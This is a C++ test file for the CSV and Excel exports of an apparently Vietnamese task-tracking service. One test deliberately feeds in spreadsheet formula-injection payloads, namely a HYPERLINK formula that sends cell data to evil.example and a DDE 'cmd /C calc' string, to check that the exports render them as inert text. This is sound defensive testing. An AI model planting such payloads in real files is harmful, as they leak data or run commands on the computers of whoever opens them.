// Exports: CSV streamed in chunks, UTF-8 with a byte-order mark and dd/MM/yyyy dates,
// parsed back by a CSV parser (libcsv) into exactly what the API lists, with the
// delimiter and decimal separator asked for; and .xlsx workbooks opened by openpyxl
// (tests/testing/xlsx.h) with typed dates and numbers, titles and the report lines.
#include <csv.h>

#include <set>
#include <string>
#include <vector>

#include "absl/strings/match.h"
#include "absl/strings/str_cat.h"
#include "absl/strings/str_format.h"
#include "d06/v1/api_names.h"
#include "tests/testing/test_server.h"
#include "tests/testing/xlsx.h"

namespace d06::testing {
namespace {

using ::testing::ElementsAre;
using ::testing::SizeIs;

using Table = std::vector<std::vector<std::string>>;

// Parses a whole CSV file (after its byte-order mark) with libcsv.
Table ParseCsv(const std::string& file, char delimiter = ',') {
  struct State {
    Table rows;
    std::vector<std::string> row;
  } state;
  csv_parser parser;
  if (csv_init(&parser, CSV_STRICT | CSV_STRICT_FINI) != 0) throw std::runtime_error("csv_init");
  csv_set_delim(&parser, static_cast<unsigned char>(delimiter));
  auto on_field = [](void* data, size_t size, void* user) {
    static_cast<State*>(user)->row.emplace_back(static_cast<const char*>(data), size);
  };
  auto on_row = [](int, void* user) {
    auto* s = static_cast<State*>(user);
    s->rows.push_back(std::move(s->row));
    s->row.clear();
  };
  std::string body = file.substr(3);
  if (csv_parse(&parser, body.data(), body.size(), on_field, on_row, &state) != body.size() ||
      csv_fini(&parser, on_field, on_row, &state) != 0) {
    std::string error = csv_strerror(csv_error(&parser));
    csv_free(&parser);
    throw std::runtime_error("not valid CSV: " + error);
  }
  csv_free(&parser);
  return state.rows;
}

class ExportsTest : public ServerTest {
 protected:
  void SetUp() override {
    ServerTest::SetUp();
    MakeUnit("H29", v1::UNIT_KIND_PROVINCE, "", "Tỉnh Nghệ An");
    MakeUnit("H29.01", v1::UNIT_KIND_DEPARTMENT, "units/H29", "Công an tỉnh");
  }
  // A district units/H29.02, and a task of the province due 31/03/2026 led by each of
  // `leads`; the one led by units/H29.01 completed.
  void SummaryTasks(const std::vector<std::string>& leads) {
    MakeUnit("H29.02", v1::UNIT_KIND_DISTRICT, "units/H29", "Huyện Nam Đàn");
    for (const std::string& unit : leads) {
      v1::Task task = MakeTask("units/H29", "Nhiệm vụ", Day(2026, 3, 31));
      std::string lead = Assign(task.name(), unit, v1::ASSIGNMENT_ROLE_LEAD).name();
      if (unit == "units/H29.01") {
        Start(lead);
        Submit(lead);
        Approve(lead);
      }
    }
  }
  // The export's file and how many chunks it came in.
  std::string Export(const std::string& parent, const std::string& filter, int* chunks = nullptr,
                     v1::ExportAssignmentsRequest req = {}) {
    req.set_parent(parent);
    req.set_filter(filter);
    std::string file;
    int n = 0;
    absl::Status status = client().ExportAssignments(req, [&](const std::string& chunk) {
      file += chunk;
      ++n;
    });
    if (!status.ok()) throw std::runtime_error(status.ToString());
    if (chunks) *chunks = n;
    return file;
  }
};

TEST_F(ExportsTest, AssignmentsParseBackToWhatTheListShows) {
  // Commas, quotes and a line break in the title; Vietnamese throughout.
  v1::Task task = MakeTask("units/H29", "Rà soát, \"làm sạch\" dữ liệu\ndân cư", Day(2026, 3, 31));
  std::string lead = Assign(task.name(), "units/H29.01", v1::ASSIGNMENT_ROLE_LEAD).name();
  Assign(task.name(), "units/H29");
  Start(lead);
  Submit(lead);
  Approve(lead);

  const std::string file = Export("tasks/-", "");
  ASSERT_TRUE(absl::StartsWith(file, "\xEF\xBB\xBF"));
  Table rows = ParseCsv(file);
  ASSERT_THAT(rows, SizeIs(3));
  EXPECT_THAT(rows[0],
              ElementsAre("Mã nhiệm vụ", "Tên nhiệm vụ", "Cơ quan giao", "Đơn vị", "Vai trò",
                          "Trạng thái", "Tình trạng hạn", "Hạn xử lý", "Ngày báo cáo hoàn thành",
                          "Tiến độ (%)", "Số lần gia hạn", "Số lần đôn đốc", "Chỉ tiêu",
                          "Giá trị chỉ tiêu", "Giá trị đạt được"));
  std::vector<v1::Assignment> listed = AllAssignments("tasks/-");
  ASSERT_THAT(listed, SizeIs(2));
  for (size_t i = 0; i < listed.size(); ++i) {
    SCOPED_TRACE(listed[i].name());
    const std::vector<std::string>& row = rows[i + 1];
    EXPECT_EQ(row[0], task.name());
    EXPECT_EQ(row[1], "Rà soát, \"làm sạch\" dữ liệu\ndân cư");
    EXPECT_EQ(row[2], "units/H29");
    EXPECT_EQ(row[3], listed[i].unit());
    EXPECT_EQ(row[7], "31/03/2026");
  }
  const std::vector<std::string>& completed = rows[listed[0].name() == lead ? 1 : 2];
  EXPECT_EQ(completed[4], "Chủ trì");
  EXPECT_EQ(completed[5], "Hoàn thành");
  EXPECT_EQ(completed[6], "Hoàn thành đúng hạn");
  EXPECT_EQ(completed[8], "20/03/2026");
  EXPECT_EQ(completed[9], "100");
  const std::vector<std::string>& support = rows[listed[0].name() == lead ? 2 : 1];
  EXPECT_EQ(support[4], "Phối hợp");
  EXPECT_EQ(support[5], "Chưa triển khai");
  EXPECT_EQ(support[6], "Trong hạn");
  EXPECT_EQ(support[8], "");

  // Filtered like the list.
  Table leads = ParseCsv(Export("tasks/-", "role = LEAD"));
  ASSERT_THAT(leads, SizeIs(2));
  EXPECT_EQ(leads[1][3], "units/H29.01");
}

TEST_F(ExportsTest, ALargeExportComesInChunksAndHasEveryRow) {
  for (int u = 2; u <= 100; ++u) {
    MakeUnit(absl::StrFormat("H29.%02d", u), v1::UNIT_KIND_DEPARTMENT, "units/H29");
  }
  for (int t = 0; t < 30; ++t) {
    v1::CreateTaskRequest req;
    req.mutable_task()->set_title(absl::StrCat("Kế hoạch triển khai Đề án 06 — đợt ", t));
    req.mutable_task()->set_kind(v1::TASK_KIND_ONE_OFF);
    req.mutable_task()->set_assigning_unit("units/H29");
    *req.mutable_task()->mutable_deadline() = Day(2026, 6, 30);
    for (int u = 1; u <= 100; ++u) {
      v1::Assignment* a = req.add_assignments();
      a->set_unit(absl::StrFormat("units/H29.%02d", u));
      a->set_role(u == 1 ? v1::ASSIGNMENT_ROLE_LEAD : v1::ASSIGNMENT_ROLE_SUPPORT);
    }
    Must(client().CreateTask(req));
  }
  int chunks = 0;
  Table rows = ParseCsv(Export("tasks/-", "", &chunks));
  EXPECT_EQ(rows.size(), 1u + 3000u);  // three pages of the list, and the header
  EXPECT_GT(chunks, 2);
  std::set<std::string> distinct;
  for (size_t i = 1; i < rows.size(); ++i) distinct.insert(rows[i][0] + "|" + rows[i][3]);
  EXPECT_EQ(distinct.size(), 3000u);
}

TEST_F(ExportsTest, BadRequestsFailBeforeAnyChunk) {
  for (const auto& [parent, filter] : std::vector<std::pair<std::string, std::string>>{
           {"tasks/-", "state = NOPE"}, {"units/H29", ""}, {"tasks/-", "unit = "}}) {
    SCOPED_TRACE(parent + " " + filter);
    v1::ExportAssignmentsRequest req;
    req.set_parent(parent);
    req.set_filter(filter);
    int chunks = 0;
    absl::Status status = client().ExportAssignments(req, [&](const std::string&) { ++chunks; });
    EXPECT_EQ(status.code(), absl::StatusCode::kInvalidArgument) << status;
    EXPECT_EQ(chunks, 0);
  }
  v1::ExportSummaryRequest summary;
  summary.set_unit("units/H99");
  EXPECT_EQ(client().ExportSummary(summary, [](const std::string&) {}).code(),
            absl::StatusCode::kNotFound);
}

TEST_F(ExportsTest, SummaryTableParsesBackToTheSummary) {
  SummaryTasks({"units/H29", "units/H29.01", "units/H29.02", "units/H29.02"});
  v1::ExportSummaryRequest req;
  req.set_unit("units/H29");
  std::string file;
  ASSERT_THAT(client().ExportSummary(req, [&](const std::string& chunk) { file += chunk; }),
              IsOk());
  ASSERT_TRUE(absl::StartsWith(file, "\xEF\xBB\xBF"));
  Table rows = ParseCsv(file);
  ASSERT_THAT(rows, SizeIs(6));  // as-of line, header, own row, two children, total
  EXPECT_EQ(rows[0][0], "Số liệu tính đến ngày 20/03/2026");
  EXPECT_EQ(rows[1][0], "Đơn vị");
  EXPECT_EQ(rows[2][0], "Tỉnh Nghệ An (trực tiếp)");
  EXPECT_EQ(rows[3][0], "Công an tỉnh");
  EXPECT_EQ(rows[4][0], "Huyện Nam Đàn");
  EXPECT_THAT(rows[5], ElementsAre("Tổng cộng", "4", "1", "1", "0", "0", "3", "0", "3", "0", "0",
                                   "0", "25"));
  EXPECT_EQ(rows[4][1], "2");
}

TEST_F(ExportsTest, SummaryOfOneLabelCountsItsTasksAloneAndSaysSo) {
  for (const bool labelled : {true, false, false}) {
    v1::CreateTaskRequest req;
    req.mutable_task()->set_title("Nhiệm vụ");
    req.mutable_task()->set_kind(v1::TASK_KIND_ONE_OFF);
    req.mutable_task()->set_assigning_unit("units/H29");
    if (labelled) req.mutable_task()->add_labels("trọng tâm");
    *req.mutable_task()->mutable_deadline() = Day(2026, 3, 31);
    v1::Assignment* lead = req.add_assignments();
    lead->set_unit("units/H29.01");
    lead->set_role(v1::ASSIGNMENT_ROLE_LEAD);
    Must(client().CreateTask(req));
  }
  v1::ExportSummaryRequest req;
  req.set_unit("units/H29");
  req.set_filter(R"(label = "trọng tâm")");
  std::string file;
  ASSERT_THAT(client().ExportSummary(req, [&](const std::string& chunk) { file += chunk; }),
              IsOk());
  Table rows = ParseCsv(file);
  ASSERT_THAT(rows, SizeIs(6));  // as-of line, filter line, header, own row, child, total
  EXPECT_EQ(rows[1][0], R"(Chỉ các nhiệm vụ có label = "trọng tâm")");
  EXPECT_EQ(rows[5][0], "Tổng cộng");
  EXPECT_EQ(rows[5][1], "1");
  // A filter GetSummary refuses is refused here, before any byte.
  req.set_filter("label = ");
  int chunks = 0;
  EXPECT_EQ(client().ExportSummary(req, [&](const std::string&) { ++chunks; }).code(),
            absl::StatusCode::kInvalidArgument);
  EXPECT_EQ(chunks, 0);
}

TEST_F(ExportsTest, TextThatASpreadsheetWouldRunAsAFormulaComesOutAsText) {
  const std::string hyperlink = R"(=HYPERLINK("http://evil.example/?d="&B3,"Bấm để xem"))";
  MakeUnit("H29.03", v1::UNIT_KIND_DEPARTMENT, "units/H29", "@SUM(1+1)*cmd|' /C calc'!A0");
  v1::CreateTaskRequest req;
  v1::Task* t = req.mutable_task();
  t->set_assigning_unit("units/H29");
  t->set_kind(v1::TASK_KIND_ONE_OFF);
  t->set_title(hyperlink);
  *t->mutable_deadline() = Day(2026, 3, 31);
  t->mutable_kpi()->set_description("+1+2");
  t->mutable_kpi()->set_type(v1::KPI_TYPE_PERCENT);
  t->mutable_kpi()->set_target_value(80);
  v1::Assignment* lead = req.add_assignments();
  lead->set_unit("units/H29.03");
  lead->set_role(v1::ASSIGNMENT_ROLE_LEAD);
  ASSERT_THAT(client().CreateTask(req).status(), IsOk());

  Table rows = ParseCsv(Export("tasks/-", ""));
  ASSERT_THAT(rows, SizeIs(2));
  EXPECT_EQ(rows[1][1], "'" + hyperlink);  // the title, readable
  EXPECT_EQ(rows[1][3], "units/H29.03");
  EXPECT_EQ(rows[1][12], "'+1+2");  // the KPI description
  EXPECT_EQ(rows[1][13], "80");     // numbers stay numbers

  v1::ExportSummaryRequest summary;
  summary.set_unit("units/H29");
  std::string file;
  ASSERT_THAT(client().ExportSummary(summary, [&](const std::string& chunk) { file += chunk; }),
              IsOk());
  Table table = ParseCsv(file);
  std::vector<std::string> first_cells;
  for (const auto& row : table) first_cells.push_back(row[0]);
  EXPECT_THAT(first_cells, ::testing::Contains("'@SUM(1+1)*cmd|' /C calc'!A0"));
  for (const auto& row : table) {
    for (const std::string& cell : row) {
      EXPECT_TRUE(cell.empty() || std::string("=+@\t\r").find(cell[0]) == std::string::npos)
          << cell;
    }
  }
}

TEST_F(ExportsTest, CsvTakesASemicolonAndADecimalComma) {
  v1::CreateTaskRequest req;
  v1::Task* t = req.mutable_task();
  t->set_assigning_unit("units/H29");
  t->set_kind(v1::TASK_KIND_ONE_OFF);
  t->set_title("Tỷ lệ hồ sơ trực tuyến, toàn trình");
  *t->mutable_deadline() = Day(2026, 3, 31);
  t->mutable_kpi()->set_description("Tỷ lệ");
  t->mutable_kpi()->set_type(v1::KPI_TYPE_PERCENT);
  t->mutable_kpi()->set_target_value(80.5);
  v1::Assignment* lead = req.add_assignments();
  lead->set_unit("units/H29.01");
  lead->set_role(v1::ASSIGNMENT_ROLE_LEAD);
  ASSERT_THAT(client().CreateTask(req).status(), IsOk());

  v1::ExportAssignmentsRequest vn;
  vn.set_delimiter(";");
  vn.set_decimal_separator(",");
  const std::string file = Export("tasks/-", "", nullptr, vn);
  EXPECT_TRUE(absl::StrContains(file, "\"Tỷ lệ hồ sơ trực tuyến, toàn trình\";\"units/H29\";"));
  Table rows = ParseCsv(file, ';');
  ASSERT_THAT(rows, SizeIs(2));
  EXPECT_EQ(rows[1][7], "31/03/2026");
  EXPECT_EQ(rows[1][13], "80,5");
  // Refused before any chunk: a delimiter not taken, a comma for both.
  for (const auto& [delimiter, decimal] :
       std::vector<std::pair<std::string, std::string>>{{"|", ""}, {",", ","}}) {
    v1::ExportAssignmentsRequest bad;
    bad.set_parent("tasks/-");
    bad.set_delimiter(delimiter);
    bad.set_decimal_separator(decimal);
    int chunks = 0;
    EXPECT_THAT(client().ExportAssignments(bad, [&](const std::string&) { ++chunks; }),
                IsError(absl::StatusCode::kInvalidArgument, "INVALID_FIELD"));
    EXPECT_EQ(chunks, 0);
  }
}

TEST_F(ExportsTest, XlsxSummaryHasTitlesReportLinesAndTypedCells) {
  SummaryTasks({"units/H29.01", "units/H29.02", "units/H29.02"});
  v1::ExportSummaryRequest req;
  req.set_unit("units/H29");
  req.set_format(v1::EXPORT_FORMAT_XLSX);
  std::string file;
  ASSERT_THAT(client().ExportSummary(req, [&](const std::string& chunk) { file += chunk; }),
              IsOk());
  const XlsxSheet sheet = ReadXlsx(file);
  EXPECT_EQ(sheet.Cell(1, 1).text, "Tỉnh Nghệ An");
  EXPECT_EQ(sheet.Cell(2, 1).text, "BÁO CÁO KẾT QUẢ THỰC HIỆN NHIỆM VỤ ĐỀ ÁN 06");
  EXPECT_EQ(sheet.Cell(3, 1).text, "Số liệu tính đến ngày 20/03/2026");
  // The report lines, as GetSummary words them, above the table.
  v1::GetSummaryRequest get;
  get.set_unit("units/H29");
  v1::GetSummaryResponse summary = Must(client().GetSummary(get));
  EXPECT_EQ(sheet.Cell(4, 1).text, summary.completed_line());
  EXPECT_EQ(sheet.Cell(5, 1).text, summary.status_line());
  EXPECT_EQ(sheet.Cell(7, 1).text, "Đơn vị");
  EXPECT_EQ(sheet.Cell(7, 13).text, "Tỷ lệ hoàn thành (%)");
  EXPECT_EQ(sheet.freeze, "A8");
  const size_t total = sheet.RowStarting("Tổng cộng");
  ASSERT_EQ(total, 11u);  // own row, two children
  EXPECT_EQ(sheet.RowStarting("Huyện Nam Đàn"), 10u);
  EXPECT_EQ(sheet.Cell(10, 2).type, "number");
  EXPECT_EQ(sheet.Cell(10, 2).number, 2);
  EXPECT_EQ(sheet.Cell(total, 2).number, 3);
  EXPECT_EQ(sheet.Cell(total, 13).type, "number");
  EXPECT_NEAR(sheet.Cell(total, 13).number, 0.333, 1e-9);  // 33.3 %, rounded by the report
  EXPECT_EQ(sheet.Cell(total, 13).format, "0.0%");
}

TEST_F(ExportsTest, XlsxAssignmentsHaveDatesNumbersAndText) {
  v1::Task task =
      MakeTask("units/H29", "=HYPERLINK(\"http://x\") Rà soát dữ liệu", Day(2026, 3, 31));
  std::string lead = Assign(task.name(), "units/H29.01", v1::ASSIGNMENT_ROLE_LEAD).name();
  Start(lead);
  Submit(lead);
  Approve(lead);
  v1::ExportAssignmentsRequest req;
  req.set_format(v1::EXPORT_FORMAT_XLSX);
  const XlsxSheet sheet = ReadXlsx(Export("tasks/-", "role = LEAD", nullptr, req));
  EXPECT_EQ(sheet.name, "Nhiệm vụ");
  EXPECT_EQ(sheet.Cell(1, 1).text, "DANH SÁCH PHÂN CÔNG THỰC HIỆN NHIỆM VỤ");
  EXPECT_EQ(sheet.Cell(2, 1).text, "Điều kiện lọc: role = LEAD");
  EXPECT_EQ(sheet.Cell(3, 1).text, "Ngày xuất: 20/03/2026");
  EXPECT_EQ(sheet.Cell(5, 1).text, "Mã nhiệm vụ");
  EXPECT_EQ(sheet.freeze, "A6");
  EXPECT_EQ(sheet.Cell(6, 1).text, task.name());
  EXPECT_EQ(sheet.Cell(6, 2).type, "text");  // never a formula
  EXPECT_EQ(sheet.Cell(6, 2).text, "=HYPERLINK(\"http://x\") Rà soát dữ liệu");
  EXPECT_EQ(sheet.Cell(6, 6).text, "Hoàn thành");
  EXPECT_EQ(sheet.Cell(6, 8).type, "date");
  EXPECT_EQ(sheet.Cell(6, 8).text, "2026-03-31");
  EXPECT_EQ(sheet.Cell(6, 9).type, "date");
  EXPECT_EQ(sheet.Cell(6, 9).text, "2026-03-20");
  EXPECT_EQ(sheet.Cell(6, 10).type, "number");
  EXPECT_EQ(sheet.Cell(6, 10).number, 1);  // 100 %
  EXPECT_EQ(sheet.Cell(6, 11).type, "number");
  EXPECT_EQ(sheet.Cell(6, 11).number, 0);
}

}  // namespace
}  // namespace d06::testing
